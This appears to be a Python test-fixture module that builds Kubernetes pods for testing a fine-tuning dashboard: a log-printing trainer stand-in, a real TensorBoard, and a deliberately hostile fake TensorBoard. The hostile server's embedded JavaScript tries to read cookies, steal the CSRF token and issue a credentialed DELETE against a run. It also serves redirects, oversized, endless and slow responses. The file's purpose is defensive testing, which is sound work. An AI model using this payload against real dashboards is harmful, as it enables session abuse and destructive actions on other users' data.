"""Pods the dashboard tests run on the proving ground's runner node (real processes with real
pod IPs): a trainer stand-in that keeps logging, a real TensorBoard over a run's event files,
and a hostile "TensorBoard" of the kind a fine-tune's author may put in ``spec.image``."""

from __future__ import annotations

import json
import time
from pathlib import Path

NAME_LABEL = "finetune.gemma.dev/name"  # what the operator's children carry
RUNNER = {
    "nodeSelector": {"gft.dev/runner": "true"},
    "tolerations": [{"key": "gft.dev/runner", "operator": "Exists", "effect": "NoSchedule"}],
}

# Prints a line twice a second for as long as it lives: a followed log that never goes quiet.
TALKER = """
import itertools, sys, time
for i in itertools.count():
    print(f"step {i}: loss 1.0", flush=True)
    time.sleep(0.5)
"""

# A fine-tune author's "TensorBoard": a page whose script tries to act on the dashboard with
# the rights of whoever opens the run page (its requests marked ?from=hostile, so that the
# server side can tell them) and reports what it could do, a redirect to somewhere else,
# answers too large to be a TensorBoard page (declared, and undeclared), one as large as the
# dashboard passes (32 MiB), and a slow one (20 s; it logs how many it is answering at once).
HOSTILE = r"""
import http.server, sys, threading, time
SLOW, GUARD = [0], threading.Lock()
EVIL = '''
(async () => {
  const out = {};
  const attempt = async (what, f) => {
    try { out[what] = await f(); } catch (e) { out[what] = "refused: " + e.name; }
  };
  const csrf = () => (document.cookie.match(/gft_csrf=([^;]+)/) || [])[1] || "";
  const api = (path, how) =>
    fetch(PREFIX + path + "?from=hostile", {credentials: "include", ...how});
  await attempt("cookie", () => document.cookie);
  await attempt("parent", () => parent.document.cookie);
  await attempt("whoami", async () => (await api("/api/whoami", {})).status);
  await attempt("delete", async () => (await api("/api/finetunes/" + TARGET,
    {method: "DELETE", headers: {"X-CSRF-Token": csrf()}})).status);
  await fetch("report?" + encodeURIComponent(JSON.stringify(out)));
})();
'''
class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self, code, body, kind="text/html", extra=()):
        self.send_response(code)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        path = self.path.split("?")[0]
        if path == "/":
            page = b"<html><head><title>TB</title></head><body>hi<script src='evil.js'></script>"
            self.answer(200, page + b"</body></html>")
        elif path == "/evil.js":
            js = EVIL.replace("PREFIX", repr(sys.argv[1])).replace("TARGET", repr(sys.argv[2]))
            self.answer(200, js.encode(), "text/javascript")
        elif path == "/report":
            print("REPORT " + self.path.split("?", 1)[1], flush=True)
            self.answer(200, b"{}", "application/json")
        elif path == "/redirect":
            self.answer(302, b"", extra=[("Location", "http://127.0.0.1:9/elsewhere")])
        elif path == "/metrics":
            self.answer(503, b"SECRET-FROM-THE-POD", "text/plain")
        elif path == "/big":
            self.answer(200, b"x" * (40 << 20), "text/plain")
        elif path == "/fill":
            self.answer(200, b"x" * (32 << 20), "text/plain")
        elif path == "/endless":  # no Content-Length: HTTP/1.0 ends it by closing
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.end_headers()
            try:
                for _ in range(40):
                    self.wfile.write(b"y" * (1 << 20))
            except OSError:
                pass
        elif path == "/slow":
            with GUARD:
                SLOW[0] += 1
                print(f"SLOW {SLOW[0]}", flush=True)
            time.sleep(20)
            with GUARD:
                SLOW[0] -= 1
            try:
                self.answer(200, b"late", "text/plain")
            except OSError:
                pass
        else:
            self.answer(404, b"not here", "text/plain")

    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", 6006), Handler).serve_forever()
"""


def pod(
    name: str,
    namespace: str,
    command: list[str],
    *,
    labels: dict[str, str] | None = None,
    port: int | None = None,
    ready_path: str | None = None,
    container_name: str = "main",
) -> dict:
    container: dict = {"name": container_name, "image": "python:3.11", "command": command}
    if port:
        container["ports"] = [{"name": "tensorboard", "containerPort": port}]
        container["readinessProbe"] = {
            "httpGet": {"path": ready_path or "/", "port": port},
            "periodSeconds": 2,
        }
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": namespace, "labels": labels or {}},
        "spec": {
            **RUNNER,
            "automountServiceAccountToken": False,
            "terminationGracePeriodSeconds": 1,
            "containers": [container],
        },
    }


def tensorboard_service(name: str, namespace: str) -> dict:
    """The Service the operator makes in front of a run's TensorBoard."""
    return {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {
            "selector": {NAME_LABEL: name},
            "ports": [{"name": "tensorboard", "port": 6006, "targetPort": "tensorboard"}],
        },
    }


def write_events(folder: Path, tag: str = "train/loss", steps: int = 20) -> None:
    """TensorBoard event files of a short run (a falling loss) in ``folder``."""
    from tensorboard.compat.proto import event_pb2, summary_pb2
    from tensorboard.summary.writer.event_file_writer import EventFileWriter

    folder.mkdir(parents=True, exist_ok=True)
    writer = EventFileWriter(str(folder))
    for step in range(steps):
        value = summary_pb2.Summary.Value(tag=tag, simple_value=3.0 / (step + 1))
        summary = summary_pb2.Summary(value=[value])
        writer.add_event(event_pb2.Event(wall_time=time.time(), step=step, summary=summary))
    writer.close()


def reports(cluster, namespace: str, name: str) -> list[dict]:
    """What the hostile page's script reported (its server prints each report)."""
    logs = cluster.kubectl("logs", name, "-n", namespace, check=False).stdout
    from urllib.parse import unquote

    return [
        json.loads(unquote(line[7:])) for line in logs.splitlines() if line.startswith("REPORT ")
    ]


def ready_ip(cluster, namespace: str, name: str) -> str:
    """The pod's IP once it is ready (its server answers)."""
    from conftest import wait_for

    def ready():
        status = cluster.kubectl_json("get", "pod", name, "-n", namespace).get("status") or {}
        ok = any(
            c["type"] == "Ready" and c["status"] == "True" for c in status.get("conditions") or []
        )
        return ok and status.get("podIP")

    return wait_for(f"pod {namespace}/{name} ready", ready, timeout=120)
